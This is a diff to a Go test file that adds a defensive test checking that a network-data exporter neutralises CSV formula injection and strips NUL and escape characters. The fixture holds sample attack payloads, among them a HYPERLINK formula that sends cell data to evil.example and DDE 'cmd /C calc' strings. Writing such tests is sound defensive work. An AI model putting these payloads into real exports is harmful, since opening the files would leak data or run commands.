@@ -3,6 +3,8 @@ package interchange_test
 import (
 	"bytes"
 	"encoding/csv"
+	"encoding/xml"
+	"io"
 	"slices"
 	"strconv"
 	"strings"
@@ -101,6 +103,69 @@ func TestEncodeCSVMissingMeasure(t *testing.T) {
 		}
 		if row[0] == "p-cy" && row[col] != "1e-07" {
 			t.Errorf("p-cy pagerank cell = %q, want 1e-07", row[col])
+		}
+	}
+}
+
+// hostileSnapshot is a network whose text fields carry spreadsheet formulas
+// (OWASP's CSV injection payloads), a NUL and an escape sequence, as a store
+// written before text fields were checked, or another tool's file, may hold
+// them.
+func hostileSnapshot() *store.Snapshot {
+	s := tinySnapshot()
+	s.People[0].Name = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	s.People[0].Groups = []string{"@SUM(1+1)*cmd|' /C calc'!A0", "parent"}
+	s.People[1].Name = "Bo\x00\x1b[2J Ødegård"
+	s.Organisations[0].Name = `+cmd|' /C calc'!A0`
+	s.Organisations[1].Name = "-2+3+cmd|' /C calc'!A0"
+	return s
+}
+
+// TestExportsAreSafe checks that the CSV tables neutralise every formula
+// and carry no NUL, and that GraphML and GEXF carry no NUL either (their
+// XML encoder writes U+FFFD for a character XML cannot hold) and still
+// parse, while numbers (weights, measures) stay numbers.
+func TestExportsAreSafe(t *testing.T) {
+	got := encodeAll(t, hostileSnapshot(), tinyMeasures())
+	for name, data := range map[string][]byte{"graphml": got.graphml, "gexf": got.gexf, "nodes": got.nodes, "edges": got.edges} {
+		if i := bytes.IndexByte(data, 0); i >= 0 {
+			t.Errorf("%s holds a NUL at byte %d", name, i)
+		}
+		if bytes.IndexByte(data, 0x1b) >= 0 {
+			t.Errorf("%s holds an escape character", name)
+		}
+	}
+	for _, row := range append(readExportCSV(t, got.nodes), readExportCSV(t, got.edges)...) {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("cell %q starts a formula", cell)
+				}
+			}
+		}
+	}
+	nodes := readExportCSV(t, got.nodes)
+	labels := map[string]string{}
+	for _, row := range nodes[1:] {
+		labels[row[0]] = row[1]
+	}
+	if want := `'=HYPERLINK("http://evil.example/?"&A1,"Click")`; labels["p-ana"] != want {
+		t.Errorf("label of p-ana = %q, want %q", labels["p-ana"], want)
+	}
+	if want := "'-2+3+cmd|' /C calc'!A0"; labels["o-hub"] != want {
+		t.Errorf("label of o-hub = %q, want %q", labels["o-hub"], want)
+	}
+	if want := "Bo\uFFFD\uFFFD[2J Ødegård"; labels["p-bo"] != want {
+		t.Errorf("label of p-bo = %q, want %q", labels["p-bo"], want)
+	}
+	for _, doc := range [][]byte{got.graphml, got.gexf} {
+		dec := xml.NewDecoder(bytes.NewReader(doc))
+		for {
+			if _, err := dec.Token(); err == io.EOF {
+				break
+			} else if err != nil {
+				t.Fatalf("export does not parse as XML: %v", err)
+			}
 		}
 	}
 }
